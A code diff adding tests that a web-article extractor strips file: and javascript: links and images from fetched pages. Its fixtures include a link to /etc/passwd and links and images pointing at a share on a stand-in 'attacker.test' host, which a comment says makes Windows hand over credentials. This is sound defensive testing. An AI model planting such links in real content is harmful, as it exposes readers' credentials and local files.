@@ -58,3 +58,32 @@ describe('a link that runs a script or holds a document', () => {
     expect(a.markdown).not.toMatch(/script:|data:/i);
   });
 });
+
+describe('a web page\u2019s link or picture to a file on the reader\u2019s computer (file:)', () => {
+  // A Markdown viewer loads a picture when the file opens: on Windows, file://host/share/… is a
+  // share on that host, which the viewer signs in to with the user's Windows credentials.
+  const local =
+    '<p>See <a href="file:///etc/passwd">the log</a>, <a href="FILE://attacker.test/share/run.exe">the tool</a>, ' +
+    'the chart <img src="file://attacker.test/share/chart.png" alt="Tide chart"> and the map <img src=" JavaScript:draw()" alt="Harbour map">.</p>';
+  const words = 'See the log, the tool, the chart Tide chart and the map Harbour map.';
+
+  it('is its words, as a browser shows a web page\u2019s link or picture it will not open, in an article and in a list of links', () => {
+    for (const html of [page(local), `<!doctype html><html><head><title>Links</title></head><body>${local}</body></html>`]) {
+      const a = extractArticle(html, 'https://tides.example/week');
+      expect(a.markdown).toContain(words);
+      expect(a.markdown).not.toMatch(/file:|script:/i);
+      expect(a.html ?? '').not.toMatch(/file:|script:/i);
+    }
+  });
+
+  it('is its words when the page\u2019s <base> is a local folder', () => {
+    const a = extractArticle(page('<p>Read <a href="notes.txt">the notes</a> beside <img src="chart.png" alt="the chart">.</p>').replace('<head>', '<head><base href="file:///C:/Users/Public/">'), 'https://tides.example/week');
+    expect(a.markdown).toContain('Read the notes beside the chart.');
+    expect(a.markdown).not.toMatch(/file:/i);
+  });
+
+  it('stays in a local file read with sift extract, whose pictures sit beside it', () => {
+    const a = extractArticle(page('<p>The chart <img src="chart.png" alt="Tide chart"> and <a href="tables.html">the tables</a>.</p>'), 'file:///home/pilot/tides/week.html');
+    expect(a.markdown).toContain('The chart ![Tide chart](file:///home/pilot/tides/chart.png) and [the tables](file:///home/pilot/tides/tables.html).');
+  });
+});
